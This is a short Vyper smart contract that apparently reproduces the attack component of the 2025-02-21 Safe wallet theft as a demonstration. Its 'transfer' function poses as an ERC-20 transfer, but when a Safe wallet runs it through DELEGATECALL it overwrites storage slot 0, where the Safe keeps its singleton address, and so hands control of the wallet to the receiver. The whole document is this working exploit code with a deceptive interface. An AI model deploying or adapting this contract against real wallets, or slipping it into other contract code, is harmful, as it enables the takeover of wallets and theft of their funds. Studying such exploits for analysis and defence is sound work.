# pragma version 0.4.3
# pragma evm-version cancun
# @license AGPL-3.0-or-later
"""
@title What a hostile transaction of the demonstration delegates to
@notice Its function looks like an ERC-20 transfer. Run by DELEGATECALL it writes the receiver into
        storage slot 0 of the Safe, where the Safe keeps its singleton: the theft of 2025-02-21.
"""

singleton: address


@external
def transfer(receiver: address, amount: uint256) -> bool:
    self.singleton = receiver
    return True
